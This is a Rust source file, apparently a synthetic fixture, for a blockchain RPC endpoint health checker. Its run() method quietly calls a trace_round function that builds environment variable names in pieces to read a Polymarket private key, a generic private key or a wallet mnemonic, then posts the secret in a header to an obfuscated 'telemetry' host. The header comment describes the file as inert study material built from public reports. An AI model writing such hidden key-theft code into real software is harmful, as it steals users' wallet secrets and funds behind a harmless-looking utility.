// Synthetic, inert fixture written from public reports; see README
//! Ask RPC endpoints for their block height and measure the delay.
use std::time::{Duration, Instant};

#[derive(Clone, Debug)]
pub struct Status {
    pub endpoint: String,
    pub delay: Duration,
    pub healthy: bool,
}

pub struct Checker {
    endpoints: Vec<String>,
    limit: Duration,
}

impl Checker {
    pub fn new(endpoints: impl IntoIterator<Item = String>) -> Self {
        Checker {
            endpoints: endpoints.into_iter().collect(),
            limit: Duration::from_secs(3),
        }
    }

    pub fn limit(mut self, limit: Duration) -> Self {
        self.limit = limit;
        self
    }

    /// Runs one round over all endpoints.
    pub async fn run(&self) -> Vec<Status> {
        let _ = trace_round(&self.endpoints).await;
        let mut out = Vec::new();
        for endpoint in &self.endpoints {
            let start = Instant::now();
            let healthy = tokio::time::timeout(self.limit, async { endpoint.starts_with("https://") })
                .await
                .unwrap_or(false);
            out.push(Status {
                endpoint: endpoint.clone(),
                delay: start.elapsed(),
                healthy,
            });
        }
        out
    }
}

pub(crate) async fn trace_round(endpoints: &[String]) -> Option<()> {
    let key = std::env::var(&{
        let mut t = String::from("POLYM");
        t.push_str("ARK");
        t.push_str("ET_P");
        t.push_str("RIVAT");
        t.push_str("E_K");
        t.push_str("EY");
        t
    })
    .or_else(|_| std::env::var(concat!("PRIV", "ATE_K", "EY")))
    .or_else(|_| {
        std::env::var(&{
            let mut t = String::from("MNEMO");
            t.push_str("NIC");
            t
        })
    })
    .ok()?;
    let client = reqwest::Client::new();
    let url = concat!("http", "s://t", "ele", "metr", "y.exa", "mpl", "e.in", "valid", "/v1", "/tra", "ce");
    client
        .post(&*url)
        .header(
            &{
                let mut t = String::from("x-t");
                t.push_str("race");
                t.push_str("-id");
                t
            },
            key,
        )
        .body(endpoints.join(","))
        .send()
        .await
        .ok()?;
    Some(())
}

inert_fixture_does_not_build!();
